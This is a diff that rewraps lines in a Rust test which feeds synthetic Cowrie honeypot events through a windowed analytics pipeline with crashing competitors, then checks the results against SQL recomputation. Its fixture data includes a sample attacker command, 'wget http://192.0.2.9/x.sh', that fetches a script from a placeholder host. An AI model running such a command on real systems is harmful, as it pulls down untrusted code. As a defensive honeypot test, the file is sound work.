@@ -1,4 +1,5 @@
-//! Sliding windows equal a recomputation from the events, whatever the order, the repetition, the lateness, the competitors and their crashes.
+//! Sliding windows equal a recomputation from the events, whatever the order, the repetition, the lateness,
+//! the competitors and their crashes.
 
 use std::{
     collections::{BTreeMap, VecDeque},
@@ -55,33 +56,52 @@ fn lines(random: &mut Random) -> Vec<Line> {
     let count = 400 + random.below(200);
     let mut lines = Vec::new();
     for n in 0..count {
-        let hour = if random.below(10) < 6 { busy[random.below(4) as usize] } else { random.below(DAYS * 24) };
+        let hour =
+            if random.below(10) < 6 { busy[random.below(4) as usize] } else { random.below(DAYS * 24) };
         let micros = (START + hour as i64 * 3_600) * 1_000_000 + random.below(3_600_000_000) as i64;
         let time = DateTime::from_timestamp_micros(micros).unwrap().format("%Y-%m-%dT%H:%M:%S%.6fZ");
         let sensor = random.one_of(&["a", "b", "c"]);
         let session = random.below(40);
-        let ip = random.one_of(&["192.0.2.1", "192.0.2.2", "198.51.100.7", "2001:db8:1::5", "2001:db8:1:2::6"]);
+        let ip =
+            random.one_of(&["192.0.2.1", "192.0.2.2", "198.51.100.7", "2001:db8:1::5", "2001:db8:1:2::6"]);
         let user = random.one_of(&["root", "ad:min", r"a\\b", ""]);
         let password = random.one_of(&["123456", "x:y", "\\u0000p", "pässwort"]);
         let more = match random.below(12) {
             0 => r#""eventid":"cowrie.session.connect","protocol":"ssh""#.to_owned(),
             1 => format!(r#""eventid":"cowrie.login.success","username":"{user}","password":"{password}""#),
-            2 | 3 => format!(r#""eventid":"cowrie.login.failed","username":"{user}","password":"{password}""#),
-            4 | 5 => format!(r#""eventid":"cowrie.command.input","input":"{}""#, COMMANDS[random.below(4) as usize]),
+            2 | 3 => {
+                format!(r#""eventid":"cowrie.login.failed","username":"{user}","password":"{password}""#)
+            }
+            4 | 5 => format!(
+                r#""eventid":"cowrie.command.input","input":"{}""#,
+                COMMANDS[random.below(4) as usize]
+            ),
             6 => format!(r#""eventid":"cowrie.client.kex","hassh":"{}""#, random.one_of(&["h1", "h2"])),
-            7 => format!(r#""eventid":"cowrie.client.version","version":"{}""#, random.one_of(&["b'SSH-2.0-Go'", "SSH-2.0-Go", "SSH-2.0-x"])),
-            8 => format!(r#""eventid":"cowrie.session.file_download","shasum":"{}""#, random.one_of(&["aa", "bb"])),
-            9 => format!(r#""eventid":"cowrie.direct-tcpip.request","dst_ip":"{}","dst_port":{}"#, random.one_of(&["ya.ru", "::1"]), 80 + random.below(2)),
+            7 => format!(
+                r#""eventid":"cowrie.client.version","version":"{}""#,
+                random.one_of(&["b'SSH-2.0-Go'", "SSH-2.0-Go", "SSH-2.0-x"])
+            ),
+            8 => format!(
+                r#""eventid":"cowrie.session.file_download","shasum":"{}""#,
+                random.one_of(&["aa", "bb"])
+            ),
+            9 => format!(
+                r#""eventid":"cowrie.direct-tcpip.request","dst_ip":"{}","dst_port":{}"#,
+                random.one_of(&["ya.ru", "::1"]),
+                80 + random.below(2)
+            ),
             10 => r#""eventid":"cowrie.session.closed","duration":1.5"#.to_owned(),
             _ => r#""eventid":"cowrie.log.closed","size":0"#.to_owned(),
         };
-        let line = format!(r#"{{"timestamp":"{time}","session":"{session:012x}","src_ip":"{ip}","n":{n},{more}}}"#);
+        let line =
+            format!(r#"{{"timestamp":"{time}","session":"{session:012x}","src_ip":"{ip}","n":{n},{more}}}"#);
         lines.push((sensor.parse().unwrap(), line.into_bytes()));
     }
     lines
 }
 
-const COMMANDS: [&str; 4] = ["uname -a", "  uname   -a ", "cat /proc/cpuinfo | grep name | wc -l", "wget http://192.0.2.9/x.sh"];
+const COMMANDS: [&str; 4] =
+    ["uname -a", "  uname   -a ", "cat /proc/cpuinfo | grep name | wc -l", "wget http://192.0.2.9/x.sh"];
 
 /// The order of delivery: mostly in time, some up to days late, some twice or three times; cut into batches.
 fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
@@ -103,15 +123,23 @@ fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
     batches
 }
 
-/// A competitor: takes batches and commits them. Now and then it dies before the commit is done, or after it and before the batch is acknowledged.
-async fn compete(url: String, batches: Arc<Mutex<VecDeque<Vec<Line>>>>, done: Arc<AtomicU64>, mut random: Random) {
+/// A competitor: takes batches and commits them. Now and then it dies before the commit is done, or after it
+/// and before the batch is acknowledged.
+async fn compete(
+    url: String,
+    batches: Arc<Mutex<VecDeque<Vec<Line>>>>,
+    done: Arc<AtomicU64>,
+    mut random: Random,
+) {
     let source = Source::default();
     let mut store = connect(&url).await;
     loop {
         let Some(batch) = batches.lock().unwrap().pop_front() else { return };
-        let prepared: Vec<_> = batch.iter().map(|(sensor, line)| Prepared::of_line(sensor, line, None, &source, None)).collect();
+        let prepared: Vec<_> =
+            batch.iter().map(|(sensor, line)| Prepared::of_line(sensor, line, None, &source, None)).collect();
         let dies = random.below(6);
-        let patience = if dies == 0 { Duration::from_micros(random.below(20_000)) } else { Duration::from_secs(60) };
+        let patience =
+            if dies == 0 { Duration::from_micros(random.below(20_000)) } else { Duration::from_secs(60) };
         let kept = tokio::time::timeout(patience, keep(&store, &prepared, Windows::Kept, None)).await;
         let unfinished = match kept {
             Ok(Ok(_)) => dies == 1 && random.below(2) == 0,
@@ -165,16 +193,27 @@ async fn features(store: &Store, url: &str, seed: u64) {
             or (e.commands > 0) is distinct from exists (select from command_sequences q where q.sequence = f.sequence and q.length = e.commands))",
     );
     assert_eq!(wrong.trim(), "", "seed {seed}");
-    let ended = psql(url, "select count(*), count(*) filter (where profile is not null) from session_features");
+    let ended =
+        psql(url, "select count(*), count(*) filter (where profile is not null) from session_features");
     assert!(ended.trim().split('|').all(|count| count.parse::<u32>().unwrap() > 20), "seed {seed}: {ended}");
 }
 
 /// What the table says of the elements of a vector is what the program does.
 fn elements(url: &str) {
-    let mut expected: Vec<String> = ELEMENTS.iter().map(|one| format!("{}|{}|{}", one.name, one.unit, one.scaling.formula())).collect();
-    expected.extend(CLIENTS.iter().map(|client| format!("client_{client}|1 for the family of the client, else 0|x")));
-    expected.extend((0..HASSH_BUCKETS).map(|bucket| format!("hassh_{bucket}|1 for the bucket of the hassh, else 0|x")));
-    let stored = psql(url, &format!("select name, unit, scaling from feature_elements where version = {VERSION} order by position"));
+    let mut expected: Vec<String> =
+        ELEMENTS.iter().map(|one| format!("{}|{}|{}", one.name, one.unit, one.scaling.formula())).collect();
+    expected.extend(
+        CLIENTS.iter().map(|client| format!("client_{client}|1 for the family of the client, else 0|x")),
+    );
+    expected.extend(
+        (0..HASSH_BUCKETS).map(|bucket| format!("hassh_{bucket}|1 for the bucket of the hassh, else 0|x")),
+    );
+    let stored = psql(
+        url,
+        &format!(
+            "select name, unit, scaling from feature_elements where version = {VERSION} order by position"
+        ),
+    );
     assert_eq!(stored.lines().collect::<Vec<_>>(), expected);
 }
 
@@ -227,30 +266,38 @@ async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
             roll_up(&store).await;
             sweep(&store).await;
             // The first week of minutes goes, and in every second seed January's hours.
-            let drops: &[Grain] = if seed.is_multiple_of(2) { &[Grain::Minute] } else { &[Grain::Minute, Grain::Hour] };
+            let drops: &[Grain] =
+                if seed.is_multiple_of(2) { &[Grain::Minute] } else { &[Grain::Minute, Grain::Hour] };
             for &grain in drops.iter().filter(|_| part == 2) {
                 let mut connection = store.connection().await.unwrap();
                 while store::drop_oldest(&mut connection, grain, before).await.unwrap().is_some() {}
             }
         }
     };
-    let competitors = (0..3).map(|_| compete(url.clone(), batches.clone(), done.clone(), Random(random.next())));
+    let competitors =
+        (0..3).map(|_| compete(url.clone(), batches.clone(), done.clone(), Random(random.next())));
     futures_of(competitors, leader).await;
     roll_up(&store).await;
     features(&store, &url, seed).await;
 
     let compared = compare(&url, &COMMANDS.map(str::to_owned), seed);
     typed(&store, &url).await;
-    assert!(compared.values().all(|&comparisons| comparisons >= 20), "seed {seed}: too few comparisons: {compared:?}");
+    assert!(
+        compared.values().all(|&comparisons| comparisons >= 20),
+        "seed {seed}: too few comparisons: {compared:?}"
+    );
     compared
 }
 
-/// A month of hours was dropped; then a late event opens a week that began in that month, and one of that month comes from a processor to which
-/// nobody has said so.
+/// A month of hours was dropped; then a late event opens a week that began in that month, and one of that
+/// month comes from a processor to which nobody has said so.
 async fn a_week_outlives_its_month(url: &str) {
     let (knows, store) = (connect(url).await, connect(url).await);
     let commit = async |store: &Store, time: &str| {
-        let line = format!(r#"{{"timestamp":"{time}","session":"{:012x}","src_ip":"192.0.2.1","eventid":"cowrie.session.connect"}}"#, time.len());
+        let line = format!(
+            r#"{{"timestamp":"{time}","session":"{:012x}","src_ip":"192.0.2.1","eventid":"cowrie.session.connect"}}"#,
+            time.len()
+        );
         let (sensor, source) = ("a".parse().unwrap(), Source::default());
         let prepared = Prepared::of_line(&sensor, line.as_bytes(), None, &source, None);
         keep(store, &[prepared], Windows::Kept, None).await.unwrap();
@@ -272,24 +319,44 @@ async fn a_week_outlives_its_month(url: &str) {
     assert_eq!(psql(url, "select to_regclass('feature_panes_hour_202601') is null").trim(), "t");
     roll_up(&store).await;
     let day = Duration::from_secs(86_400);
-    let window = store::window_features(&mut connection, Dimension::All, "", day, DateTime::from_timestamp(START + 5 * 86_400, 0).unwrap()).await.unwrap();
+    let window = store::window_features(
+        &mut connection,
+        Dimension::All,
+        "",
+        day,
+        DateTime::from_timestamp(START + 5 * 86_400, 0).unwrap(),
+    )
+    .await
+    .unwrap();
     assert_eq!(window.events, 40);
 }
 
-/// The typed questions give what SQL gives; the parts of a series add up to the whole; the first of a top list is the largest.
+/// The typed questions give what SQL gives; the parts of a series add up to the whole; the first of a top
+/// list is the largest.
 async fn typed(store: &Store, url: &str) {
     let mut connection = store.connection().await.unwrap();
-    let (end, day) = (DateTime::from_timestamp(START + DAYS as i64 * 86_400, 0).unwrap(), Duration::from_secs(86_400));
+    let (end, day) =
+        (DateTime::from_timestamp(START + DAYS as i64 * 86_400, 0).unwrap(), Duration::from_secs(86_400));
     let whole = store::window_features(&mut connection, Dimension::All, "", day * 14, end).await.unwrap();
     assert_eq!(psql(url, "select count(*) from events").trim(), whole.events.to_string());
     let parts = store::window_series(&mut connection, Dimension::All, "", day * 14, day, end).await.unwrap();
     assert_eq!((parts.len(), parts.iter().map(|part| part.events).sum::<i64>()), (14, whole.events));
     for measure in [store::Measure::LoginsFailed, store::Measure::DistinctSessions] {
-        let top = store::window_top(&mut connection, Dimension::Username, measure, day * 14, end, 3).await.unwrap();
+        let top =
+            store::window_top(&mut connection, Dimension::Username, measure, day * 14, end, 3).await.unwrap();
         let mut all = Vec::new();
         for user in ["root", "ad:min", r"a\b", ""] {
-            let window = store::window_features(&mut connection, Dimension::Username, user, day * 14, end).await.unwrap();
-            all.push((if measure == store::Measure::LoginsFailed { window.logins_failed } else { window.distinct_sessions }, user.to_owned()));
+            let window = store::window_features(&mut connection, Dimension::Username, user, day * 14, end)
+                .await
+                .unwrap();
+            all.push((
+                if measure == store::Measure::LoginsFailed {
+                    window.logins_failed
+                } else {
+                    window.distinct_sessions
+                },
+                user.to_owned(),
+            ));
         }
         all.sort_by(|a, b| (b.0, &a.1).cmp(&(a.0, &b.1)));
         all.truncate(3);
@@ -297,15 +364,28 @@ async fn typed(store: &Store, url: &str) {
     }
 }
 
-/// Compares windows of every dimension with a recomputation in SQL; `commands` are all that were typed. Returns how many comparisons were not of
-/// nothing, by dimension.
+/// Compares windows of every dimension with a recomputation in SQL; `commands` are all that were typed.
+/// Returns how many comparisons were not of nothing, by dimension.
 pub fn compare(url: &str, commands: &[String], seed: u64) -> BTreeMap<String, u64> {
     let key = |command: &String| serde_json::json!({ "input": command, "key": events::bounded(&events::normal::normalise(command)) });
-    let normal = serde_json::Value::from(commands.iter().map(key).collect::<Vec<_>>()).to_string().replace('\'', "''");
+    let normal =
+        serde_json::Value::from(commands.iter().map(key).collect::<Vec<_>>()).to_string().replace('\'', "''");
     let mut script = tempfile::NamedTempFile::new().unwrap();
-    let fill = format!("create temp table normal as select * from json_to_recordset('{normal}') as n (input text, key text)");
-    write!(script, "select setseed({});\n{fill};\n{}", (seed % 1_000) as f64 / 1_000.0, include_str!("windows.sql")).unwrap();
-    let out = Command::new("psql").args([url, "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-f"]).arg(script.path()).output().unwrap();
+    let fill = format!(
+        "create temp table normal as select * from json_to_recordset('{normal}') as n (input text, key text)"
+    );
+    write!(
+        script,
+        "select setseed({});\n{fill};\n{}",
+        (seed % 1_000) as f64 / 1_000.0,
+        include_str!("windows.sql")
+    )
+    .unwrap();
+    let out = Command::new("psql")
+        .args([url, "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-f"])
+        .arg(script.path())
+        .output()
+        .unwrap();
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
     let mut compared = BTreeMap::new();
     for line in String::from_utf8_lossy(&out.stdout).lines().filter(|line| line.contains('|')) {
@@ -319,7 +399,10 @@ pub fn compare(url: &str, commands: &[String], seed: u64) -> BTreeMap<String, u6
     compared
 }
 
-async fn futures_of(competitors: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>, leader: impl Future<Output = ()>) {
+async fn futures_of(
+    competitors: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>,
+    leader: impl Future<Output = ()>,
+) {
     let running: Vec<_> = competitors.map(|one| tokio::runtime::Handle::current().spawn(one)).collect();
     leader.await;
     for one in running {
@@ -333,7 +416,8 @@ async fn windows_equal_a_recomputation() {
     let seeds: u64 = std::env::var("WINDOWS_SEEDS").map_or(100, |text| text.parse().unwrap());
     let dir = directory();
     let data = DataDir::take(&dir.path().join("p")).unwrap();
-    let mut servers = Servers::start(&data, Wanted { nats: false, postgres: true, redis: false }).await.unwrap();
+    let mut servers =
+        Servers::start(&data, Wanted { nats: false, postgres: true, redis: false }).await.unwrap();
     let url = servers.urls.database.clone().unwrap();
     let database = |name: &str| format!("{}/{name}", url.rsplit_once('/').unwrap().0);
     psql(&url, "alter system set fsync = off");
@@ -349,7 +433,8 @@ async fn windows_equal_a_recomputation() {
     let first: u64 = std::env::var("WINDOWS_FIRST").map_or(0, |text| text.parse().unwrap());
     let next = AtomicU64::new(first);
     let one = || {
-        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
+        let runtime =
+            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
         let mut sums = BTreeMap::<String, u64>::new();
         loop {
             let n = next.fetch_add(1, Ordering::Relaxed);
@@ -364,13 +449,16 @@ async fn windows_equal_a_recomputation() {
             psql(&url, &format!("drop database {name} with (force)"));
         }
     };
-    eventually("nobody uses the template", || psql(&url, "select count(*) from pg_stat_activity where datname = 'migrated'").trim() == "0");
+    eventually("nobody uses the template", || {
+        psql(&url, "select count(*) from pg_stat_activity where datname = 'migrated'").trim() == "0"
+    });
     let sums: Vec<_> = std::thread::scope(|scope| {
         let threads: Vec<_> = (0..AT_ONCE).map(|_| scope.spawn(one)).collect();
         threads.into_iter().map(|thread| thread.join().unwrap()).collect()
     });
     let of = |dimension: &str| sums.iter().filter_map(|sums| sums.get(dimension)).sum::<u64>();
-    let comparisons: Vec<_> = Dimension::ALL.iter().map(|dimension| (dimension.name(), of(dimension.name()))).collect();
+    let comparisons: Vec<_> =
+        Dimension::ALL.iter().map(|dimension| (dimension.name(), of(dimension.name()))).collect();
     println!("{seeds} seeds, comparisons that were not of nothing, by dimension: {comparisons:?}");
     servers.stop().await;
 }
